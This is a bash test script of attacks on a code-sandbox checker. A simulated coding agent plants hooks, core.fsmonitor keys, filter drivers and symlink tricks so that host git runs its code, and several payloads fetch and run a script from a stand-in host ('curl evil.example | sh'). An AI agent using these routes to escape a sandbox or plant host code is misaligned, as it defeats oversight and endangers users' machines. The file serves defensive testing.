#!/usr/bin/env bash
# Attacks on bin/code-sandbox-pivots after the review7 fixes (491f0f6),
# review7b. Each attack is one test whose assertion is the SECURE outcome
# (so "not ok" = the attack got through), next to its control. Harness of
# tests/launcher/pivots-fastpath-attacks.sh: a fake engine whose `run` plays
# the agent on the host (FAKE_AGENT, run in the workspace); R5b needs root
# (a throwaway user, removed at the end).
#   SOURCE_DIR=/work/wt-review7b bash tests/launcher/pivots-review7b.sh
# R1  core.hooksPath's parent renamed (the ro mount moves along; the hooks
#     path's contents are never checked)
# R2  the hooks-path link replaced by a directory (a vanished entry is no change)
# R3  a tab in a pivot file's name: the check reverts the wrong path
# R4  a newline in a pivot file's name: listed, never reverted
# R5  a pivot directory over MAX_FILES at the start: the check is blind in it
# R5b the same with a directory the user cannot read at the start
# R6  .git/info as a symlink: the check moves and writes files outside the workspace
# R7  a nested repository whose path holds a tab is skipped
# R8  fast path: a missing include target reached through a link into node_modules
# R9  a workspace inside the state directory: the agent writes its own baseline
# R10 fast path: a nested git directory's commondir rewritten in place
# R11 the whole-directory revert: the user's large file and the owner
# R12 a submodule's hooks: .git/modules/sub renamed, a copy put in place
# R14 a stale .git/config.lock: the quarantine removes nothing
# R15 a config path the snapshot listed, reached through a new symlink
# R16 a \001 in a config subsection: classified, never removed
# R13 concurrency: a run started during another's prepare takes its own snapshot
# At review7b = main 9afea02 (about 30 s, R13 is a timed race): every control passes; R9 holds
# (the pivots state inside the workspace is refused); every other attack
# gets through.
# The agents' commands are single-quoted on purpose (they run in the workspace).
# shellcheck disable=SC2016
set -uo pipefail
SOURCE_DIR=${SOURCE_DIR:-$(cd "$(dirname "$0")/../.." && pwd)}
# shellcheck source=../support/tap.sh
. "$SOURCE_DIR/tests/support/tap.sh"
PIVOTS_HARNESS_NAME=cs-review7b-attacks
# shellcheck source=tests/launcher/pivots-harness.sh
. "$SOURCE_DIR/tests/launcher/pivots-harness.sh"
# Host git as the user would run it (the hooks and fsmonitor it runs).
host_commit() { git -C "$1" -c user.name=U -c user.email=u@example.test commit -q --allow-empty -m x >/dev/null 2>&1; }
EVIL_HOOK="printf '#!/bin/sh\ntouch $T/pwned\n'"

# --- R1: core.hooksPath's parent renamed -----------------------------------
# The hooks path is protected only by its read-only mount; its contents are
# no pivot entries. A mount point cannot be renamed (EBUSY), but its parent
# can (the mount moves along: checked with unshare -m and a bind mount), so
# the agent puts a new tools/hooks in place. Neither check sees it.
r1_setup() {
	mkdir -p "$P/tools/hooks"
	printf '#!/bin/sh\nexit 0\n' >"$P/tools/hooks/pre-commit" && chmod +x "$P/tools/hooks/pre-commit"
	git config --file "$P/.git/config" core.hooksPath tools/hooks
}
fresh r1_setup
m=$(cs -- --dry-run -- true 2>/dev/null)
ok "R1 control: the hooks path is mounted read-only" grep -qxF -- "--volume=$P/tools/hooks:/workspace/tools/hooks:ro" <<<"$m"
rm -f "$T/pwned"
fast "mv tools tools.old && mkdir -p tools/hooks && $EVIL_HOOK >tools/hooks/pre-commit && chmod +x tools/hooks/pre-commit"
check "R1 attack: tools/ renamed, a new tools/hooks/pre-commit: exit 109 ($st)" "$st" -eq 109
host_commit "$P"
nok "R1 attack:   host git commit does not run the agent's hook" test -e "$T/pwned"

# --- R2: the hooks-path link replaced by a directory -------------------------
# hooks_path_links lists the links on the way (F5's fix); a link the agent
# replaces by a real directory is no link any more, so it leaves the
# manifest, and an entry missing from the current manifest is no change.
r2_setup() {
	mkdir -p "$P/tools/hooks"
	printf '#!/bin/sh\nexit 0\n' >"$P/tools/hooks/pre-commit" && chmod +x "$P/tools/hooks/pre-commit"
	ln -s tools/hooks "$P/.githooks"
	git config --file "$P/.git/config" core.hooksPath .githooks
}
fresh r2_setup
fast "mkdir -p build/h && $EVIL_HOOK >build/h/pre-commit && chmod +x build/h/pre-commit && ln -sfn build/h .githooks.new && mv -T .githooks.new .githooks"
check "R2 control: the link repointed (F5): exit 109 ($st)" "$st" -eq 109
check "R2 control:   the link points where it did" "$(readlink "$P/.githooks")" = tools/hooks
fresh r2_setup
rm -f "$T/pwned"
fast "rm .githooks && mkdir .githooks && $EVIL_HOOK >.githooks/pre-commit && chmod +x .githooks/pre-commit"
check "R2 attack: the link replaced by a directory of hooks: exit 109 ($st)" "$st" -eq 109
ok "R2 attack:   .githooks is the link again" test -L "$P/.githooks"
host_commit "$P"
nok "R2 attack:   host git commit does not run the agent's hook" test -e "$T/pwned"

# --- R3: a tab in a pivot file's name ----------------------------------------
# The manifest is TYPE<TAB>ID<TAB>PATH, and check_pivots' awk takes $3: a
# name "ci.yml<TAB>x.yml" is entry "ci.yml". Reported as "changed
# .github/workflows/ci.yml", that file is "reverted" (to itself), everything
# counts as reverted (no pending), and the agent's workflow stays.
r3_setup() { mkdir -p "$P/.github/workflows" && printf 'on: push\njobs: {}\n' >"$P/.github/workflows/ci.yml"; }
WF='printf "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: \"curl https://evil.example | sh\"}]}}\n"'
fresh r3_setup
fast "$WF >.github/workflows/x.yml"
check "R3 control: a new workflow: exit 109 ($st)" "$st" -eq 109
ok "R3 control:   it is reverted" test ! -e "$P/.github/workflows/x.yml"
fresh r3_setup
fast "$WF >\"\$(printf '.github/workflows/ci.yml\tx.yml')\""
check "R3 attack: a new workflow named 'ci.yml<TAB>x.yml': exit 109 ($st)" "$st" -eq 109
diag "$(grep -v ': debug:' "$T/err" | head -n 6)"
ok "R3 attack:   it is reverted" test ! -e "$P/.github/workflows/ci.yml	x.yml"
ok "R3 attack:   or at least still pending review" test -e "$PST/pending" -o ! -e "$P/.github/workflows/ci.yml	x.yml"

# --- R4: a newline in a pivot file's name ------------------------------------
# list_entries turns the newline into '?': the manifest names a path that
# does not exist ("o", not a regular file), the mv fails, the file stays.
fresh r3_setup
fast "$WF >\"\$(printf '.github/workflows/x\n.yml')\""
check "R4 attack: a new workflow named 'x<NL>.yml': exit 109 ($st)" "$st" -eq 109
diag "$(grep -v ': debug:' "$T/err" | head -n 6)"
ok "R4 attack:   it is reverted" test ! -e "$P/.github/workflows/x
.yml"

# --- R5: a pivot directory over MAX_FILES at the start ----------------------
# Then its baseline entry is "o - .idea", and so is the current one whatever
# the agent puts inside: identical, nothing found.
r5_setup() { mkdir -p "$P/.idea/cache" && (cd "$P/.idea/cache" && seq 1 5001 | xargs touch); }
RUNCFG='mkdir -p .idea/runConfigurations && printf "<component name=\"ProjectRunConfigurationManager\"><configuration name=\"x\" type=\"ShConfigurationType\"><option name=\"SCRIPT_TEXT\" value=\"curl evil | sh\"/></configuration></component>\n" >.idea/runConfigurations/x.xml'
fresh
fast "$RUNCFG"
check "R5 control: a new .idea run configuration: exit 109 ($st)" "$st" -eq 109
ok "R5 control:   it is reverted" test ! -e "$P/.idea/runConfigurations/x.xml"
fresh r5_setup
fast "$RUNCFG"
check "R5 attack: the same in an .idea of 5001 files at the start: exit 109 ($st)" "$st" -eq 109
ok "R5 attack:   it is reverted" test ! -e "$P/.idea/runConfigurations/x.xml"

# --- R5b: a directory the user cannot read at the start ----------------------
# (root-owned, from a container build): chmod u+rx fails, find errs, the
# baseline entry is the whole directory: the agent's devcontainer.json in
# it is never compared. Needs root (a throwaway user).
asuser() { # asuser SCRIPT: as $RU, with U (its directory), PV; prints the script's output
	# From /: the current directory may be one the user cannot enter.
	cd / && runuser -u "$RU" -- env -i PATH=/usr/bin:/bin U="$U" PV="$T/pv-user" HOME="$U/home" \
		GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null sh -c "$1"
}
r5b() { # r5b ROOT_SUBDIR(0|1): exit status of the check, then kept|reverted
	rm -rf "$U" && mkdir -p "$U" && chown "$RU" "$U"
	asuser 'mkdir -p $U/home $U/st && git init -q $U/p && mkdir -p $U/p/.devcontainer && echo "{\"image\":\"debian\"}" >$U/p/.devcontainer/devcontainer.json'
	[ "$1" = 0 ] || install -d -m 0700 -o root -g root "$U/p/.devcontainer/cache"
	asuser '$PV prepare $U/p $U/st/pv >/dev/null 2>&1
		echo "{\"image\":\"debian\",\"postCreateCommand\":\"curl evil | sh\"}" >$U/p/.devcontainer/devcontainer.json
		r=0; $PV check $U/p $U/st/pv --revert >/dev/null 2>&1 || r=$?
		echo $r
		if grep -q postCreate $U/p/.devcontainer/devcontainer.json; then echo kept; else echo reverted; fi'
}
harness_user "cs-review7b-$$"
RU=$HARNESS_USER
if [ -n "$RU" ]; then
	U=$T/u5b
	r=$(r5b 0)
	check "R5b control: a changed devcontainer.json (postCreateCommand), as a user: found and reverted (${r//$'\n'/ })" "${r//$'\n'/ }" = "1 reverted"
	r=$(r5b 1)
	check "R5b attack: the same with a root-owned 0700 .devcontainer/cache at the start (${r//$'\n'/ })" "${r//$'\n'/ }" = "1 reverted"
else
	skip "R5b control" "needs root (a throwaway user)"
	skip "R5b attack" "needs root (a throwaway user)"
fi

# --- R6: .git/info as a symlink ----------------------------------------------
# pivot_entries lists "$rel/info/attributes" with find -P, which follows
# the link in the start point's parent: the host's file named attributes
# wherever .git/info points (relative: no host path to guess) is listed,
# moved into the quarantine, and (changed) the start copy written there.
r6_setup() { printf '*.bin binary\n' >"$P/.git/info/attributes"; }
fresh r6_setup
mkdir -p "$T/victim" && printf 'the user s own file\n' >"$T/victim/attributes"
fast 'rm -rf .git/info && mkdir -p x && ln -s ../../victim .git/info'
check "R6 attack: .git/info -> ../../victim (outside the workspace): the check runs ($st)" "$st" -eq 109 -o "$st" -eq 0
diag "$(grep -v ': debug:' "$T/err" | head -n 8)"
check "R6 attack:   the host's victim/attributes is still there, unchanged" "$(cat "$T/victim/attributes" 2>/dev/null)" = 'the user s own file'
diag "victim/attributes now: $(cat "$T/victim/attributes" 2>&1)"

# --- R7: a nested repository whose path holds a tab --------------------------
# nested_file drops such paths (grep -v '[[:cntrl:]]'): its hooks and config
# are never read. Host git run there (a shell prompt's git status) runs
# core.fsmonitor.
R7_AGENT() { printf 'd=$(printf "%s"); git init -q "$d" && printf "[core]\\n\\tfsmonitor = touch %s/pwned\\n" >>"$d/.git/config"' "$1" "$T"; }
fresh
fast "$(R7_AGENT vendor/ab)"
check "R7 control: core.fsmonitor in a new vendor/ab: exit 109 ($st)" "$st" -eq 109
check "R7 control:   quarantined" "$(git config --file "$P/vendor/ab/.git/config" core.fsmonitor)" = ""
fresh
fast "$(R7_AGENT 'vendor/a\tb')"
check "R7 attack: core.fsmonitor in a new 'vendor/a<TAB>b': exit 109 ($st)" "$st" -eq 109
# Not quarantined (a path with control characters is not handled line by
# line): reported and kept for review (SECURITY.md, known limits).
ok "R7 attack:   reported as not examined, and pending review" eval 'grep -q "is not examined" "$T/err" && test -e "$PST/pending"'

# --- R8 (fast path): a missing include target behind a link ------------------
# The fingerprint records the components of the include path as written
# (the link tools, lstat) and existing targets; the directory the link
# points to is under node_modules (not walked), so the file appearing there
# changes nothing recorded. The full check reads it (all keys new).
r8_setup() {
	mkdir -p "$P/node_modules/@org/tools"
	ln -s node_modules/@org/tools "$P/tools"
	git config --file "$P/.git/config" include.path ../tools/gitconfig
}
R8_AGENT='printf "[core]\n\tfsmonitor = touch /tmp/pwned\n" >node_modules/@org/tools/gitconfig'
fresh r8_setup
fast "$R8_AGENT; $(full)"
check "R8 control: the include target created, full check: exit 109 ($st)" "$st" -eq 109
fresh r8_setup
fast "$R8_AGENT"
check "R8 attack: the same with the fast path armed: exit 109 ($st)" "$st" -eq 109
nok "R8 attack:   (the fast path was taken)" fastpath_taken

# --- R9: a workspace inside the state directory -------------------------------
# The launcher refuses a workspace that holds the state directory, not one
# inside it: run in STATE/code-sandbox/projects, the agent sees its own
# pivots state (projects-HASH/pivots) and writes its baseline.
W9=$T/st/code-sandbox/projects
rm -rf "$T/st" && mkdir -p "$W9"
R9_AGENT='printf "echo pwned\n" >.envrc; h=$(sha256sum <.envrc | cut -c1-64); for s in ./*/pivots; do rm -f "$s/fp"; printf "f\t%s\t.envrc\n" "$h" >>"$s/manifest"; done'
st=0
cs_in "$W9" FAKE_AGENT="$R9_AGENT" -- -- true 2>"$T/err" || st=$?
diag "$(grep -v ': debug:' "$T/err" | head -n 5)"
check "R9 attack: the agent forges its own baseline: exit 109 or refused ($st)" "$st" -ne 0
ok "R9 attack:   no .envrc left" test ! -e "$W9/.envrc"

# --- R11: the whole-directory revert ----------------------------------------
# The agent's 5001 entries make .vscode one entry: moved into the
# quarantine whole, the start copies put back. A file over MAX_COPY has no
# start copy (the user's own file leaves the workspace), and the directories
# come back as the snapshot made them (run as root: root's).
r11_setup() {
	mkdir -p "$P/.vscode" && echo '{}' >"$P/.vscode/settings.json"
	head -c 2000000 /dev/zero >"$P/.vscode/big.bin"
	chown -R 4242:4343 "$P"
}
fresh r11_setup
fast 'mkdir -p .vscode/x && (cd .vscode/x && seq 1 5001 | xargs touch)'
check "R11: exit 109 ($st)" "$st" -eq 109
ok "R11:   the agent's entries are gone" test ! -e "$P/.vscode/x"
ok "R11:   the user's large .vscode/big.bin is still in the workspace" test -e "$P/.vscode/big.bin"
if [ "$(id -u)" = 0 ]; then
	check "R11:   .vscode is still the user's ($(stat -c %u "$P/.vscode" 2>/dev/null))" "$(stat -c %u "$P/.vscode" 2>/dev/null)" = 4242
fi

# --- R12: a submodule's hooks, its git directory renamed ---------------------
# .git/modules/sub/hooks is mounted read-only, but .git/modules/sub is no
# mount point: the agent renames it and puts a copy with its own hooks in
# place. The check compares the submodule's config by path (a copy: the
# same), and its hooks are no pivot entries (only the main .git/hooks is).
r12_setup() {
	newrepo "$T/subsrc"
	git -C "$P" -c protocol.file.allow=always submodule add -q "$T/subsrc" sub >/dev/null 2>&1
	git -C "$P" -c core.hooksPath=/dev/null commit -qm sub
}
fresh r12_setup
m=$(cs -- --dry-run -- true 2>/dev/null)
ok "R12 control: the submodule's hooks are mounted read-only" grep -qxF -- "--volume=$P/.git/modules/sub/hooks:/workspace/.git/modules/sub/hooks:ro" <<<"$m"
rm -f "$T/pwned"
fast "mv .git/modules/sub .git/modules/sub.old && cp -a .git/modules/sub.old .git/modules/sub && $EVIL_HOOK >.git/modules/sub/hooks/pre-commit && chmod +x .git/modules/sub/hooks/pre-commit"
check "R12 attack: .git/modules/sub renamed, a copy with a pre-commit hook in place: exit 109 ($st)" "$st" -eq 109
host_commit "$P/sub"
nok "R12 attack:   host git commit in sub/ does not run the agent's hook" test -e "$T/pwned"

# --- R10 (fast path): a nested git directory's commondir rewritten in place --
# The full check reads DIR/commondir of nested git directories (F6's fix);
# the fingerprint records their names, not that file: rewritten in place
# (same inode, the directory's times unchanged) to a common directory under
# node_modules (not walked), the fast path skips the check.
r10_setup() {
	newrepo "$P/vendor/lib"
	newrepo "$P/vendor/wt"
	printf '../../lib/.git\n' >"$P/vendor/wt/.git/commondir"
	mkdir -p "$P/node_modules/x"
}
R10_AGENT='cp -a vendor/lib/.git/. node_modules/x/ && printf "[core]\n\tfsmonitor = touch /tmp/pwned\n" >>node_modules/x/config && printf "../../../node_modules/x\n" >vendor/wt/.git/commondir'
fresh r10_setup
fast "$R10_AGENT; $(full)"
check "R10 control: the nested commondir repointed, full check: exit 109 ($st)" "$st" -eq 109
fresh r10_setup
fast "$R10_AGENT"
check "R10 attack: the same with the fast path armed: exit 109 ($st)" "$st" -eq 109
nok "R10 attack:   (the fast path was taken)" fastpath_taken

# --- R13 (concurrency): the marker is written after the snapshot -------------
# prepare writes running.d/PID last; a second run B started while run A's
# prepare is still taking its snapshot sees no run, and takes its own
# snapshot (rm -rf of the first one's files too). A's agent starts as soon
# as A's prepare is done: what it writes before B's snapshot reaches it is
# B's baseline, and A's exit check compares against it.
fresh
mkdir -p "$P/.vscode/x" && (cd "$P/.vscode/x" && seq 1 3000 | xargs -n 500 sh -c 'for i; do echo "$i" >"$i"; done' sh)
sleep 300 & A=$!
sleep 300 & B=$!
"$PV" prepare "$P" "$PST" --pid "$A" >/dev/null 2>&1 &        # run A starts
PA=$!
# (B starts near the end of A's prepare: A is copying its last start files)
i=0
while [ "$(find "$PST/pivots/files/.vscode/x" -type f 2>/dev/null | wc -l)" -lt 2900 ] && [ "$i" -lt 600 ]; do sleep 0.1; i=$((i + 1)); done
"$PV" prepare "$P" "$PST" --pid "$B" >/dev/null 2>"$T/err" &   # run B starts (A's snapshot under way)
PB=$!
wait "$PA"                                                     # A's prepare done: A's agent runs
printf 'pre-commit:\n  commands:\n    x:\n      run: curl evil | sh\n' >"$P/lefthook.yml"
wait "$PB"
diag "$(cat "$T/err")"
r=0
"$PV" check "$P" "$PST" --revert >/dev/null 2>"$T/err" || r=$?  # run A ends
diag "$(head -n 5 "$T/err")"
check "R13 attack: run A's lefthook.yml is found by its exit check (exit $r)" "$r" -eq 1
# Run B is still active: A's check lists, moves nothing (B's agent is live),
# keeps it pending; the check at the last run's end reverts it.
ok "R13 attack:   kept pending while run B is active" test -e "$PST/pending"
kill "$A" "$B" 2>/dev/null
wait 2>/dev/null
r=0
"$PV" check "$P" "$PST" --revert >/dev/null 2>"$T/err" || r=$?  # run B ends (the last)
ok "R13 attack:   and reverted by the last run's check ($r)" test ! -e "$P/lefthook.yml"

# --- R14: a stale config.lock: the quarantine edits nothing ------------------
# check_configs removes the agent's keys with git config --unset-all, whose
# failure is ignored (|| true); git refuses to edit a config whose .lock
# exists. The key stays, the message says it was quarantined, and nothing is
# pending (no pivot file changed): the next start's snapshot takes it in.
R14_KEY="printf '[core]\\n\\tfsmonitor = touch $T/pwned\\n' >>.git/config"
fresh
fast "$R14_KEY"
check "R14 control: core.fsmonitor added to .git/config: exit 109 ($st)" "$st" -eq 109
check "R14 control:   removed" "$(git config --file "$P/.git/config" core.fsmonitor)" = ""
fresh
fast ": >.git/config.lock && $R14_KEY"
check "R14 attack: the same with a .git/config.lock: exit 109 ($st)" "$st" -eq 109
check "R14 attack:   removed" "$(git config --file "$P/.git/config" core.fsmonitor)" = ""
rm -f "$P/.git/config.lock"
fast
check "R14 attack:   the key is gone for good: the next run is clean ($st)" "$st" -eq 0
rm -f "$T/pwned"
git -C "$P" status >/dev/null 2>&1
nok "R14 attack:   host git status does not run the agent's core.fsmonitor" test -e "$T/pwned"

# --- R15: a remembered config path through a new symlink ---------------------
# check_configs reads and edits every config path the snapshot listed, as a
# path: vendor/ renamed (the pinned vendor/x/.git moves along) and
# vendor/x made a link to another repository of the user's, the check
# compares THAT repository's config with vendor/x's start listing and
# removes its "new" executing keys (core.hooksPath: its hooks stop running).
r15_setup() {
	newrepo "$P/vendor/x"
	newrepo "$T/victim-repo"
	git config --file "$T/victim-repo/.git/config" core.hooksPath .husky/_
}
fresh r15_setup
fast 'mv vendor vendor.old && mkdir vendor && ln -s ../../victim-repo vendor/x'
diag "$(grep -v ': debug:' "$T/err" | head -n 4)"
check "R15 attack: the other repository's core.hooksPath is left alone" "$(git config --file "$T/victim-repo/.git/config" core.hooksPath)" = .husky/_

# --- R17: a nested worktree's commondir out of the workspace ----------------
# (the integrator's own attack on the F6 fix) config_files followed a nested
# commondir as written: "../../../victim-repo/.git" stays a path under the
# workspace to a prefix test, so the check took that repository's config as
# a new file of the agent's and removed its executing keys.
r17_setup() {
	newrepo "$P/vendor/y"
	newrepo "$T/victim-repo2"
	git config --file "$T/victim-repo2/.git/config" core.hooksPath .husky/_
}
fresh r17_setup
fast 'printf "../../../../victim-repo2/.git\n" >vendor/y/.git/commondir'
check "R17 attack: the other repository's core.hooksPath is left alone" "$(git config --file "$T/victim-repo2/.git/config" core.hooksPath)" = .husky/_

# --- R18: a hooks path written with ".." out of the workspace ---------------
# (the integrator's own attack on hooks_path_links) the links on the way to
# core.hooksPath as written are found by a prefix test, which
# "$WS/../elsewhere" passes. It held already: the agent's core.hooksPath is
# quarantined before the pivot entries are listed; since then such paths
# are also skipped there and never reverted (a second line, kept by this
# test should that order change).
r18_setup() {
	mkdir -p "$T/outside18/real"
	ln -sfn real "$T/outside18/link"
}
fresh r18_setup
fast 'git config --file .git/config core.hooksPath ../outside18/link'
check "R18 attack: the user's link outside the workspace is left where it is" "$(readlink "$T/outside18/link" 2>/dev/null)" = real

# --- R16: a \001 in a config subsection --------------------------------------
# listing() separates key and value with \001 (git's -z newline) before
# turning it into a tab: a key holding \001 itself ([filter "a\001b"]) is
# cut there: "filter.a", which classifies as exec but --unset-all cannot
# remove (no such key: its failure ignored). Host git runs the filter
# (a .gitattributes in a subdirectory selects it: not a pivot file).
R16_FILTER="printf '[filter \"a\\001b\"]\\n\\tclean = touch $T/pwned; cat\\n' >>.git/config && mkdir -p sub && printf '* filter=a\\001b\\n' >sub/.gitattributes && echo x >sub/f"
R16_PLAIN="printf '[filter \"ab\"]\\n\\tclean = touch $T/pwned; cat\\n' >>.git/config && mkdir -p sub && printf '* filter=ab\\n' >sub/.gitattributes && echo x >sub/f"
fresh
fast "$R16_PLAIN"
check "R16 control: a new filter driver: exit 109 ($st)" "$st" -eq 109
rm -f "$T/pwned"
git -C "$P" add sub/f >/dev/null 2>&1
nok "R16 control:   host git add does not run it" test -e "$T/pwned"
fresh
fast "$R16_FILTER"
check "R16 attack: a filter named 'a<0x01>b': exit 109 ($st)" "$st" -eq 109
rm -f "$T/pwned"
git -C "$P" add sub/f >/dev/null 2>&1
nok "R16 attack:   host git add does not run it" test -e "$T/pwned"

tap_done
